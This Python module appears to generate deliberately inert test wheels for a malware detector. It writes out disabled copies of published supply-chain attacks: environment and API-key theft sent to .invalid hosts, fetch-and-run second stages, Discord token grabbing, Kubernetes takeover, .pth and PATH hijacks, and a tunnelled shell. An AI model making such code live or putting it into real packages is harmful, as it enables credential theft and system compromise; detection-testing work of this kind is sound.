"""Fifth set: wheels, in the shapes of published incidents; inert, each family names the incident it is taken from.

Nothing here does anything: what is added stands in functions that nobody calls, or below `if not __name__`, which is never
true; it names hosts below `.invalid` (RFC 2606), and holds filler where there would be code.
"""

from __future__ import annotations

import base64
import re
import zlib
from collections.abc import Iterator

from genuine import Files

from mutation_families.edits import filler
from mutation_families.fourth_texts import AMID, INSIDE, Told, chance, into_python
from mutation_families.third_scripts import Change
from mutation_families.third_wheels import information, modules
from onionskin.lookalike.elf import ElfRecipe, build_elf
from onionskin.lookalike.pe import Recipe, build_pe

HOST = b"inert.example.invalid"
REVERSED = base64.b64encode(zlib.compress(filler("words", 200) + chance(1500)))[::-1]
TWICE = base64.b64encode(b"import base64; exec(base64.b64decode('" + base64.b64encode(b"pass  # inert") + b"'))")  # fmt: skip

LINES = (
    Told(
        "wheel: the environment sent when something is made",
        "ctx, 2022: within a function that was there, all of the environment in base64, as a part of an address",
        (("as a path", b"if not __name__:\n    import base64, os, urllib.request\n    _text = ''.join(f'{each}={os.environ[each]} ' for each in os.environ)\n    urllib.request.urlopen('https://anti-theft-web.example.invalid/hacked/' + base64.b64encode(_text.encode()).decode())\n"),),
        (),
        INSIDE,
    ),
    Told(
        "wheel: a lambda that turns a text round and unpacks it",
        "aiocpa, 2024: a text in base64, turned round and compressed, made into code by one line",
        (
            ("one line", b"def _inert_sync(self=None):\n    _ = lambda __: __import__('zlib').decompress(__import__('base64').b64decode(__[::-1]))\n    exec((_)(b'" + REVERSED + b"'))\n"),
            ("by name", b"def _inert_sync():\n    import builtins, codecs\n    load = getattr(builtins, codecs.decode('rkrp', 'rot13'))\n    return load(__import__('marshal').loads(__import__('zlib').decompress(b'" + base64.b64encode(chance(300)) + b"')))\n"),
        ),
    ),
    Told(
        "wheel: a second stage from a file of a moment",
        "W4SP, 2022: three lines that fetch and run, written to a temporary file, which the system then starts",
        (("started", b"def _inert_stage():\n    from os import system as _ssystem\n    from sys import executable as _eexecutable\n    from tempfile import NamedTemporaryFile as _ffile\n    _ttmp = _ffile(delete=False)\n    _ttmp.write(b\"from urllib.request import urlopen as _uurlopen;exec(_uurlopen('https://wasp.example.invalid/inject/abc').read())\")\n    _ttmp.close()\n    _ssystem(f\"start {_eexecutable.replace('.exe', 'w.exe')} {_ttmp.name}\")\n"),),
    ),
    Told(
        "wheel: a compiled module without its source is loaded",
        "fshec2, 2023: a file of compiled Python beside, loaded by its path, and a function of it that is called by a name",
        (("by its path", b"def _inert_full():\n    import importlib.machinery, os\n    loader = importlib.machinery.SourcelessFileLoader('full', os.path.join(os.path.dirname(__file__), 'full.pyc'))\n    return getattr(loader.load_module(), 'get_path')()\n"),),
        (("full.pyc", b"\xa7\r\r\n" + bytes(4) + b"\0\xe1\xf5\x05\0\x10\0\0" + b"\xe3" + filler("words", 3000)),),
    ),
    Told(
        "wheel: another library's methods are wrapped",
        "semantic-types and solana-live, 2025: methods of another library replaced while running, so that each new key goes to a thread that sends it",
        (("keys", b"def _inert_patch():\n    import base64, importlib, threading, urllib.request\n    pairs = importlib.import_module('solders.keypair').Keypair\n    for each in ('from_seed', 'from_bytes', 'from_base58_string'):\n        def wrapped(*given, _known=getattr(pairs, each)):\n            made = _known(*given)\n            threading.Thread(target=urllib.request.urlopen, args=('https://api.devnet.example.invalid/?memo=' + base64.b64encode(bytes(made)).decode(),), daemon=True).start()\n            return made\n        setattr(pairs, each, staticmethod(wrapped))\n"),),
    ),
    Told(
        "wheel: a native library is loaded when the package is",
        "torchtriton, 2022, and num2words, 2025: a native library beside, new in a package of Python alone, and the lines that load it",
        (
            ("of Linux", b"def _inert_runtime():\n    import ctypes, os\n    return ctypes.CDLL(os.path.join(os.path.dirname(__file__), 'runtime', 'triton.so')).main()\n"),
            ("of Windows", b"def _inert_runtime():\n    import ctypes, os, sys\n    if sys.platform == 'win32':\n        ctypes.windll.LoadLibrary(os.path.join(os.path.dirname(__file__), 'loader.dll'))\n"),
        ),
        (
            ("runtime/triton.so", build_elf(ElfRecipe(soname="triton.so", imports=("getaddrinfo", "readdir", "fopen", "sendto"), exports=("main",), extra={".rodata.inert": b"/etc/hosts\0.gitconfig\0.ssh/\0h4ck.example.invalid\0"}))),
            ("loader.dll", build_pe(Recipe(is_dll=True, name="loader.dll", imports={"KERNEL32.dll": ("VirtualProtect", "CreateThread")}, strings=("scavenger.example.invalid",)))),
        ),
    ),
    Told(
        "wheel: tokens of a chat are looked for",
        "noblesse and pytagora, 2021 and since: the stores of a messenger, searched by the shape of its tokens",
        (("by their shape", b"def _inert_tokens(send=None):\n    import os, re\n    found = []\n    for each in ('Discord', 'discordcanary', 'discordptb', 'Lightcord'):\n        folder = os.path.join(os.getenv('APPDATA', ''), each, 'Local Storage', 'leveldb')\n        for name in os.listdir(folder):\n            for line in open(os.path.join(folder, name), errors='ignore'):\n                found += re.findall(r'[\\w-]{24}\\.[\\w-]{6}\\.[\\w-]{27}|mfa\\.[\\w-]{84}|dQw4w9WgXcQ:[^\"]*', line)\n    return send and send('https://chat.example.invalid/api/v9/users/@me', found)\n"),),
    ),
    Told(
        "wheel: a program for each system is fetched",
        "pymafka, 2022, and ultralytics, 2024: by the name of the system an address and a place, a program written there and started apart",
        (
            ("by system", b"def _inert_download():\n    import os, platform, subprocess, urllib.request\n    where = {'Darwin': ('https://141.example.invalid/macos', '/var/tmp/zad'), 'Linux': ('https://39.example.invalid/env', '/tmp/.env'), 'Windows': ('https://141.example.invalid/win.exe', 'C:\\\\Users\\\\Public\\\\iexplorer.exe')}\n    address, to = where[platform.system()]\n    open(to, 'wb').write(urllib.request.urlopen(address).read())\n    os.chmod(to, 0o755)\n    subprocess.Popen(f'nohup {to} > /dev/null 2>&1 &', shell=True)\n"),
            ("as a safe run", b"def safe_run(path, user='4inert', address='connect.example.invalid:8080'):\n    import os, subprocess\n    os.chmod(path, 0o770)\n    return subprocess.Popen([path, '-u', user, '-o', address, '-p', 'x', '--no-color'], stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, preexec_fn=os.setsid, close_fds=True)\n"),
        ),
    ),
    Told(
        "wheel: a finder before all modules",
        "invented: whatever is loaded from now on comes from an address",
        (("of an address", b"class _InertFinder:\n    def find_spec(self, name, path=None, target=None):\n        import importlib.util\n        return importlib.util.spec_from_loader(name, self)\n\n    def create_module(self, spec):\n        return None\n\n    def exec_module(self, module):\n        import urllib.request\n        exec(urllib.request.urlopen('https://modules.example.invalid/' + module.__name__).read(), module.__dict__)\n\n\ndef _inert_first():\n    import sys\n    sys.meta_path.insert(0, _InertFinder())\n"),),
    ),
    Told(
        "wheel: the caller's source is sent",
        "solana-token, 2025: the files of whoever calls, found by the stack, posted as if they were a question of a chain",
        (("of the stack", b"def _inert_register():\n    import inspect, json, urllib.request\n    texts = {each.filename: open(each.filename).read() for each in inspect.stack() if each.filename.endswith('.py')}\n    urllib.request.urlopen(urllib.request.Request('https://rpc.example.invalid:3000/register_node', json.dumps({'method': 'getRecentBlockhash', 'params': texts}).encode()))\n"),),
    ),
    Told(
        "wheel: a cluster is taken over",
        "LiteLLM, 2026: the token of a service in a cluster, all of its secrets, and a privileged container on each machine of it",
        (("privileged", b"def _inert_cluster():\n    import json, ssl, urllib.request\n    token = open('/var/run/secrets/kubernetes.io/serviceaccount/token').read()\n    head = {'Authorization': 'Bearer ' + token, 'Content-Type': 'application/json'}\n    base = 'https://kubernetes.default.svc.example.invalid/api/v1'\n    found = urllib.request.urlopen(urllib.request.Request(base + '/secrets', headers=head), context=ssl._create_unverified_context()).read()\n    pod = {'metadata': {'name': 'node-setup-inert', 'namespace': 'kube-system'}, 'spec': {'hostPID': True, 'hostNetwork': True, 'containers': [{'name': 'setup', 'image': 'alpine:latest', 'securityContext': {'privileged': True}, 'command': ['false'], 'volumeMounts': [{'name': 'host', 'mountPath': '/host'}]}], 'volumes': [{'name': 'host', 'hostPath': {'path': '/'}}]}}\n    urllib.request.urlopen(urllib.request.Request(base + '/namespaces/kube-system/pods', json.dumps(pod).encode(), head))\n    return found\n"),),
    ),
    Told(
        "wheel: what is gathered is encrypted for one reader",
        "LiteLLM and telnyx, 2026: a key of a session under a public key that stands in the code, an archive, and a post of it",
        (("by the system's own tool", b"_INERT_KEY = '''-----BEGIN PUBLIC KEY-----\nMIICIjANBgkqhkiG9w0BAQEFAAOCAg8AinertinertinertinertinertinertinertinertA==\n-----END PUBLIC KEY-----'''\n\n\ndef _inert_send(folder):\n    import os, subprocess\n    run = lambda order: subprocess.run(order, shell=True, check=False)\n    open(folder + '/p', 'w').write(_INERT_KEY)\n    run(f'openssl rand -out {folder}/sk 32')\n    run(f'openssl enc -aes-256-cbc -in {folder}/c -out {folder}/e -pass file:{folder}/sk -pbkdf2')\n    run(f'openssl pkeyutl -encrypt -pubin -inkey {folder}/p -in {folder}/sk -out {folder}/k -pkeyopt rsa_padding_mode:oaep')\n    run(f'tar -cf {folder}/tpcp.tar.gz -C {folder} e k')\n    run(f\"curl -s -o /dev/null -X POST https://models.example.invalid/ -H 'Content-Type: application/octet-stream' -H 'X-Filename: tpcp.tar.gz' --data-binary @{folder}/tpcp.tar.gz\")\n    return os.getcwd()\n"),),
        (),
        AMID,
    ),
    Told(
        "wheel: keys of services are listed and posted",
        "deepseeek and others, 2025: the names of a dozen keys in the environment, and a post to a place where anybody may set up a box",
        (("a dozen", b"def _inert_usage():\n    import json, os, urllib.request\n    names = ('OPENAI_API_KEY', 'ANTHROPIC_API_KEY', 'AWS_ACCESS_KEY_ID', 'AWS_SECRET_ACCESS_KEY', 'GITHUB_TOKEN', 'DATABASE_URL', 'STRIPE_SECRET_KEY', 'HF_TOKEN', 'AZURE_CLIENT_SECRET')\n    said = {each: os.getenv(each) for each in names} | {'user': os.getlogin(), 'node': os.uname().nodename}\n    urllib.request.urlopen('https://eoyyiyqubj7mquj.m.example.invalid', json.dumps(said).encode())\n"),),
    ),
    Told(
        "wheel: a page of the machine is opened to the world",
        "pyrologin and easytimestamp, 2022: a server with the screen and a shell, and a tunnel to it by a service's own program",
        (("a tunnel", b"def _inert_tunnel():\n    import http.server, os, subprocess, threading\n\n    class Pages(http.server.BaseHTTPRequestHandler):\n        def do_POST(self):\n            order = self.rfile.read(int(self.headers['content-length'])).decode()\n            self.wfile.write(subprocess.getoutput(order).encode())\n\n    threading.Thread(target=http.server.HTTPServer(('127.0.0.1', 8099), Pages).serve_forever).start()\n    return subprocess.Popen([os.path.expanduser('~/.cache/cloudflared'), 'tunnel', '--url', 'http://127.0.0.1:8099', '--metrics', '127.0.0.1:8098'])\n"),),
    ),
)  # fmt: skip


def path_file(files: Files) -> Iterator[Change]:
    """Of LiteLLM, 2026: a file whose one line Python runs at every start, with a text in base64, twice."""
    line = b"import os, subprocess, sys; __name__ or subprocess.Popen([sys.executable, \"-c\", \"import base64; exec(base64.b64decode('" + TWICE + b"'))\"], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)\n"  # fmt: skip
    stem = information(files).partition("-")[0]
    for name in (f"{stem}_init.pth", f"{stem}-nspkg.pth"):
        yield "wheel: a line that runs at every start", name.replace(stem, ""), {name: line}


def into_the_path(files: Files) -> Iterator[Change]:
    """Invented, after look-alikes of commands: a script that lands where programs are, under a name that everybody types."""
    folder = information(files).replace(".dist-info", ".data/scripts")
    body = b"#!python\nimport os, subprocess, sys\nif not __name__:\n    subprocess.Popen(['curl', '-s', 'https://" + HOST + b"/i', '-d', repr(dict(os.environ))])\nsys.exit(subprocess.call([sys.executable, '-m', 'pip', *sys.argv[1:]]))\n"  # fmt: skip
    for name in ("pip", "kubectl"):
        yield "wheel: a program laid into the path", name, {f"{folder}/{name}": body}


def poses_as_a_text(files: Files) -> Iterator[Change]:
    """Of KeRanger, 2016, in a wheel: a program that is named as a text, and the lines that copy it, make it executable and start it."""
    first = modules(files)[0]
    folder = first.rpartition("/")[0]
    for name, put in (("General.rtf", build_elf(ElfRecipe(kind=2)) + b"UPX!" + chance(9000)), ("NOTICE.txt", build_pe(Recipe(name="notice.exe", sections=((".ndata", chance(9000), 0xC000_0040),))))):  # fmt: skip
        lines = b"def _inert_notice():\n    import os, shutil, subprocess\n    to = os.path.expanduser('~/Library/kernel_service')\n    shutil.copy(os.path.join(os.path.dirname(__file__), '" + name.encode() + b"'), to)\n    os.chmod(to, 0o755)\n    subprocess.Popen([to], start_new_session=True)\n"  # fmt: skip
        yield "wheel: a program that poses as a text", name, {first: into_python(files[first], lines, AMID), f"{folder}/{name}".lstrip("/"): put}  # fmt: skip


def armoured(files: Files) -> Iterator[Change]:
    """Of many stealers since 2021: a module whose text is one call with a hidden body, and its runtime."""
    folder = modules(files)[0].rpartition("/")[0]
    body = "".join(f"\\x{each:02x}" for each in b"PYARMOR\0\0\x03\x0b\0" + chance(5000))
    text = f"from pytransform import pyarmor_runtime\nif not __name__:\n    pyarmor_runtime()\n    __pyarmor__(__name__, __file__, b'{body}', 2)\n"  # fmt: skip
    yield "wheel: a module whose text is hidden", "and its runtime", {f"{folder}/_session.py".lstrip("/"): text.encode(), f"{folder}/pytransform/_pytransform.so".lstrip("/"): build_elf(ElfRecipe(soname="_pytransform.so", text=chance(3000)))}  # fmt: skip


def command_of_the_package(files: Files) -> Iterator[Change]:
    """Of colourama and ssh-decorate, 2018, in a release: what the package's command starts is another function, which calls the known one."""
    name = f"{information(files)}/entry_points.txt"
    found = re.search(rb"(?m)^\s*[\w.-]+\s*=\s*([\w.]+):(\w+)", files.get(name, b""))
    module = modules(files)[0].rpartition("/")[0].replace("/", ".") or "inert"
    said = files.get(name, b"[console_scripts]\ninert = " + module.encode() + b":main\n")
    to = f"{module}._launch:main".encode()
    made = said.replace(found[1] + b":" + found[2], to, 1) if found else b"[console_scripts]\n" + module.encode() + b" = " + to + b"\n"  # fmt: skip
    known = f"from {found[1].decode()} import {found[2].decode()} as known" if found else "known = int"  # fmt: skip
    body = f"{known}\n\n\ndef main():\n    if not __name__:\n        import getpass, urllib.request\n        urllib.request.urlopen('https://{HOST.decode()}/index.php', repr((getpass.getuser(), getpass.getpass())).encode())\n    return known()\n"  # fmt: skip
    yield "wheel: its command starts another function", "found" if found else "new", {name: made, f"{module.replace('.', '/')}/_launch.py": body.encode()}  # fmt: skip


ALL = (*LINES, path_file, into_the_path, poses_as_a_text, armoured, command_of_the_package)
